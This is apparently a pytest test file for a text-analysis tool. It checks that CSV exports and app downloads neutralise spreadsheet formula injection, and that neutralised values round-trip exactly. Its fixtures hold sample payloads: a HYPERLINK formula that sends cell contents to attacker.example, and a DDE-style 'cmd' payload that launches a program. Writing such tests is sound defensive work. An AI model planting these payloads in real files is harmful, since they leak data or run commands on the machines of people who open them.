"""CSV written by reltext never runs a formula in a spreadsheet, unless asked to keep them."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from reltext import Project
from reltext.model import Verdict
from reltext.review.decisions import decide
from reltext.exchange.spreadsheet import inert, restored

# A speaker, a turn's opening, a manifest value and a reviewer that a spreadsheet would run.
SPEAKER = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")"
OPENING = "-2+3 is what I told them, and I trust her."
SITE = "@SUM(1+1)*cmd|' /C calc'!A0"
REVIEWER = "+alice"
FORMULA = tuple("=+-@\t\r")


@pytest.fixture
def hostile(tmp_path: Path, run_cli) -> Path:
    table = tmp_path / "turns.csv"
    with table.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["transcript_id", "turn_id", "speaker", "text"])
        writer.writerow(["p01", "0", "Interviewer", "How is the new worker?"])
        writer.writerow(["p01", "1", SPEAKER, OPENING])
    manifest = tmp_path / "manifest.csv"
    manifest.write_text(f'transcript,site\np01,"{SITE}"\n', encoding="utf-8")
    assert run_cli("ingest", str(table), "--manifest", str(manifest)).exit_code == 0
    assert run_cli("code", "--coder", "rules").exit_code == 0
    with Project(tmp_path / "project.db") as project:
        coding_id = project.codings()["coding_id"].iloc[0]
        decide(project.store, REVIEWER, coding_id, Verdict.MEMO, note="=1+1 check this")
    return tmp_path


def _cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8"))) for cell in row]


def _formulas(cells: list[str]) -> list[str]:
    return [cell for cell in cells if cell.startswith(FORMULA)]


@pytest.mark.parametrize("table", ["turns", "codings"])
def test_spreadsheet_exports_neutralise_formulas_unless_kept(hostile, run_cli, table):
    out = hostile / f"{table}.csv"
    assert run_cli("export", table, "--format", "csv", "--out", str(out)).exit_code == 0
    cells = _cells(out.read_bytes())
    assert _formulas(cells) == []
    assert "'" + SPEAKER in cells
    if table == "turns":
        assert "'" + OPENING in cells and "'" + SITE in cells
    result = run_cli("export", table, "--format", "csv", "--out", str(out), "--keep-formulas")
    assert result.exit_code == 0
    assert SPEAKER in _cells(out.read_bytes())
    jsonl = hostile / f"{table}.jsonl"  # files for scripts are never changed
    assert run_cli("export", table, "--format", "jsonl", "--out", str(jsonl)).exit_code == 0
    assert '"speaker":"=HYPERLINK' in jsonl.read_text(encoding="utf-8")


def test_spreadsheet_exported_turn_table_reads_back_exactly(hostile, run_cli):
    out = hostile / "turns.csv"
    assert run_cli("export", "turns", "--out", str(out)).exit_code == 0
    again = hostile / "again.db"
    assert run_cli("ingest", str(out), db=again).exit_code == 0
    with Project(hostile / "project.db") as first, Project(again) as second:
        columns = ["transcript_id", "turn_id", "speaker", "text", "site"]
        assert second.turns()[columns].equals(first.turns()[columns])


def test_spreadsheet_viewer_downloads_neutralise_formulas(hostile, monkeypatch):
    import streamlit
    from streamlit.testing.v1 import AppTest

    app_file = Path(__file__).resolve().parent.parent / "app" / "streamlit_app.py"
    offered = {}
    monkeypatch.setattr(streamlit, "download_button",
                        lambda label, **kwargs: offered.setdefault(label, kwargs["data"]))
    monkeypatch.setenv("RELTEXT_DB", str(hostile / "project.db"))
    monkeypatch.setenv("RELTEXT_REVIEWER", "alice")
    app = AppTest.from_file(str(app_file), default_timeout=30)
    app.run()
    app.sidebar.radio(key="page").set_value("Export").run()
    assert not app.exception
    for label in ("Download codings CSV", "Download decisions CSV"):
        cells = _cells(offered[label]())
        assert cells and _formulas(cells) == [], label
    assert "'" + SPEAKER in _cells(offered["Download codings CSV"]())
    assert {"'" + REVIEWER, "'=1+1 check this"} <= set(_cells(offered["Download decisions CSV"]()))


def test_spreadsheet_pseudonymisation_report_and_key(tmp_path, run_cli):
    source = tmp_path / "p02.txt"
    source.write_text("Interviewer: Who helps?\nSam: -Dave Smith at Tesco, mostly.\n",
                      encoding="utf-8")
    names = tmp_path / "names.txt"
    names.write_text("-Dave Smith\n", encoding="utf-8")
    key, report = tmp_path / "key.csv", tmp_path / "report.csv"
    assert run_cli("ingest", str(source), "--pseudonymise", "--names", str(names),
                   "--key-out", str(key), "--report", str(report)).exit_code == 0
    assert _formulas(_cells(key.read_bytes())) == [] and "'-Dave Smith" in key.read_text()
    assert _formulas(_cells(report.read_bytes())) == []
    from reltext.corpus.pseudonymise import PseudonymKey

    assert any(original == "-Dave Smith"
               for originals in PseudonymKey.load(key).originals.values()
               for original in originals)


@pytest.mark.parametrize("value", ["=1", "+1", "-1", "@a", "\tx", "\rx", "'=1", "plain", ""])
def test_spreadsheet_inert_and_restored_round_trip(value):
    assert restored(inert(value)) == value
    assert not str(inert(value)).startswith(FORMULA)
